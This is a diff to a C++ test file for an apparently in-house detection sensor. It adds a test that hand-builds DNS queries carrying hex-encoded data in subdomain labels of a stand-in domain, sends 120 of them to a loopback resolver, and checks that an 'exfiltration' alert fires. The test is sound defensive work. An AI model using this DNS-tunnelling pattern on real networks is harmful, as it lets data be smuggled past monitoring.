@@ -1,6 +1,10 @@
 // Real acts, and the alerts that the sensor raises where it stands.
 #include "watch/station/station_fixture_test.h"
 
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+
 namespace shoji::station {
 namespace {
 
@@ -98,6 +102,45 @@ TEST_F(DetectionProgram, TheDetectorsBeyondRulesSeeTheSensorsEvents) {
     EXPECT_EQ(text_of(*told, "TargetFilename"), folder_.at("salary/list"));
     EXPECT_EQ(text_of(*told, "Rule"), "canary");
     EXPECT_EQ(text_of(*told, "Image"), std::filesystem::canonical("/bin/sh").native());
+}
+
+// A question of DNS for an address.
+std::string question_for(const std::string& name) {
+    std::string message("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
+    for (std::size_t at = 0; at < name.size();) {
+        const auto end = std::min(name.find('.', at), name.size());
+        message += static_cast<char>(end - at);
+        message += name.substr(at, end - at);
+        at = end + 1;
+    }
+    return message.append("\x00\x00\x01\x00\x01", 5);
+}
+
+// What is taken out as names of questions that nobody need answer.
+TEST_F(DetectionProgram, DataInNamesOfDnsIsAnAlert) {
+    RunningSensor sensor(policy());
+    sockaddr_in server{};
+    server.sin_family = AF_INET;
+    server.sin_addr.s_addr = htonl(0x7f003535);  // 127.0.53.53
+    server.sin_port = htons(53);
+    const base::FileDescriptor client(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+    constexpr int questions = 120;
+    for (int i = 0; i < questions; ++i) {
+        std::string data;
+        for (int part = 0; part < 3; ++part) {
+            data += fmt::format("{:04x}{:x>54}.", i, part);
+        }
+        const auto question = question_for(data + "carried-out.net");
+        ASSERT_EQ(::sendto(client.get(), question.data(), question.size(), 0,
+                           reinterpret_cast<const sockaddr*>(&server), sizeof server),
+                  static_cast<ssize_t>(question.size()));
+    }
+    const auto told = alert(sensor, "tunnel");
+    ASSERT_TRUE(told);
+    EXPECT_EQ(text_of(*told, "Detector"), "exfiltration");
+    EXPECT_EQ(text_of(*told, "Image"), std::filesystem::read_symlink("/proc/self/exe").native());
+    EXPECT_EQ(sensor.stop(), 0);
+    EXPECT_EQ(count(sensor, "tunnel"), 1U);
 }
 
 // A rule in the words of another product, with a name that the place fills in.
